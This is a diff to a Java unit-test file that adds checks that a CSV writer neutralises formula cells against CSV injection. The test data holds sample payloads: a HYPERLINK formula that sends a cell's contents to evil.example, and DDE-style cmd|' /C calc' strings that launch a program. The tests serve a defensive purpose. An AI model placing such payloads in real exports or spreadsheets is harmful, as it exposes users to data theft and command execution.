@@ -5,12 +5,15 @@ import java.time.Instant;
 import java.util.List;
 
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
 /**
  * The CSV writer on its own: the header is the JSON field names, nulls are empty, and fields
- * with commas, quotes or line breaks are quoted so that a CSV reader gets the value back.
+ * with commas, quotes or line breaks are quoted so that a CSV reader gets the value back, and
+ * cells a spreadsheet would run as a formula are neutralised (OWASP CSV injection).
  */
 class CallRecordCsvTests {
 
@@ -35,6 +38,30 @@ class CallRecordCsvTests {
 	void plainValuesStayUnquoted() {
 		assertThat(CallRecordCsv.escape("+441234")).isEqualTo("+441234");
 		assertThat(CallRecordCsv.escape("a\rb")).isEqualTo("\"a\rb\"");
+	}
+
+	@ParameterizedTest
+	@CsvSource(delimiterString = " => ", quoteCharacter = '`', textBlock = """
+			=HYPERLINK("http://evil.example/?"&A1) => `"'=HYPERLINK(""http://evil.example/?""&A1)"`
+			+1+cmd|' /C calc'!A0 => `"'+1+cmd|' /C calc'!A0"`
+			-2+3 => `"'-2+3"`
+			@SUM(1+1)*cmd|' /C calc'!A0 => `"'@SUM(1+1)*cmd|' /C calc'!A0"`
+			+44 20 7946 0018 => `"'+44 20 7946 0018"`
+			""")
+	void neutralisesCellsThatASpreadsheetRunsAsFormulas(String value, String written) {
+		assertThat(CallRecordCsv.escape(value)).isEqualTo(written);
+	}
+
+	@Test
+	void neutralisesCellsStartingWithTabOrCarriageReturn() {
+		assertThat(CallRecordCsv.escape("\t=1+1")).isEqualTo("\"'\t=1+1\"");
+		assertThat(CallRecordCsv.escape("\r=1+1")).isEqualTo("\"'\r=1+1\"");
+	}
+
+	@ParameterizedTest
+	@CsvSource({ "+441234", "-1.5", "0.100000", "alice", "a=b" })
+	void leavesPlainNumbersAndInnerSignsAlone(String value) {
+		assertThat(CallRecordCsv.escape(value)).isEqualTo(value);
 	}
 
 }
